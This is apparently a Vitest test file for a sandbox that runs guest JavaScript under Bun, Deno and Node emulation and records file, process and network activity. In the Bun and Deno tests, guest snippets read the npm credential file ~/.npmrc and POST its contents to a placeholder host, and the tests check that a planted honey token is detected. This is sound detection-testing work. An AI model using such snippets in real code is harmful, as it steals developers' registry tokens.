import { describe, expect, test } from "vitest";

import { runGuest } from "../test/run-guest.ts";
import type { GuestResult } from "../test/run-guest.ts";

import { createWorld } from "./worlds/worlds.ts";

const world = createWorld("linux-laptop", Date.UTC(2026, 10, 17, 9));

function told({ observations }: GuestResult): readonly string[] {
  return observations.map(({ kind, detail }) => `${kind} ${detail}`);
}

describe("Bun", () => {
  test("has files, processes and its shell, and what they carry is seen", async () => {
    const result = await runGuest(
      `import { $ } from "bun";
       const settings = process.env.HOME + "/.npmrc";
       const child = Bun.spawn(["echo", "hi"]);
       console.log((await child.stdout.text()).trim(), await new Response(child.stdout).text() === "hi\\n", await child.exited);
       console.log((await $\`echo \${"a b"}\`.text()).trim());
       await Bun.write("/tmp/x", await Bun.file(settings).text());
       await fetch("https://host.invalid/", { method: "POST", body: Bun.gzipSync(await Bun.file("/tmp/x").bytes()) });
       console.log(typeof Deno, Bun.which("sh") !== null, process.versions.bun, typeof require);`,
      { language: "module", runtime: "bun", world },
    );

    expect(result.problem).toBeUndefined();
    expect(result.printed).toEqual(["hi true 0", "a b", "undefined true 1.2.20 function"]);
    expect(told(result)).toContain("process child_process.exec echo 'a b'");
    expect(result.observations.find(({ kind }) => kind === "network")?.honey).toEqual(["npm-token"]);
  });
});

describe("Deno", () => {
  test("has files, processes and the environment, and what they carry is seen", async () => {
    const result = await runGuest(
      `import chalk from "npm:chalk@5";
       const text = await Deno.readTextFile(Deno.env.get("HOME") + "/.npmrc");
       const { code, stdout } = await new Deno.Command("sh", { args: ["-c", "echo hi"] }).output();
       console.log(code, new TextDecoder().decode(stdout).trim(), typeof chalk, typeof Bun, Deno.build.os);
       await Deno.mkdir("/tmp/a/b", { recursive: true });
       Deno.writeTextFileSync("/tmp/a/b/c", text);
       for await (const { name } of Deno.readDir("/tmp/a/b")) console.log(name);
       await fetch("https://host.invalid/", { method: "POST", body: text });
       await Deno.remove("/tmp/a/b/none").catch((error) => console.log(error.code));`,
      { language: "module", runtime: "deno", world },
    );

    expect(result.problem).toBeUndefined();
    expect(result.printed).toEqual(["0 hi function undefined linux", "c", "ENOENT"]);
    expect(result.observations.find(({ kind }) => kind === "network")?.honey).toEqual(["npm-token"]);
  });
});

describe("Node", () => {
  test("has nothing of the others", async () => {
    const { printed } = await runGuest(
      `console.log(typeof Bun, "Bun" in globalThis, typeof Deno);
       try { require("bun") } catch ({ code }) { console.log(code) }`,
    );

    expect(printed).toEqual(["undefined false undefined", "MODULE_NOT_FOUND"]);
  });

  test("starts the others, with TypeScript", async () => {
    const result = await runGuest(
      `const { execSync } = require("child_process");
       for (const line of ["bun run x.ts", "deno run -A x.ts", "npx tsx x.ts"]) execSync(line);`,
      {
        files: {
          "x.ts": `const name: string = [typeof Bun, typeof Deno].join("-"); require("fs").writeFileSync("/tmp/" + name, "");`,
        },
      },
    );

    const written = result.observations.flatMap(({ kind, data }) => (kind === "file" ? [data["path"]] : []));
    expect(written).toEqual(["/tmp/object-undefined", "/tmp/undefined-object", "/tmp/undefined-undefined"]);
  });

  test("tells of programs of WebAssembly, and what they answer lets loops end", async () => {
    const { printed, observations } = await runGuest(
      `WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109])).then(({ instance: { exports } }) => {
         let count = 0;
         while (exports.next() && count < 9) count += 1;
         console.log(count, exports.memory.buffer.byteLength);
       });`,
    );

    expect(printed).toEqual(["0 65536"]);
    expect(observations).toMatchObject([{ kind: "code", api: "WebAssembly.Module" }]);
  });
});
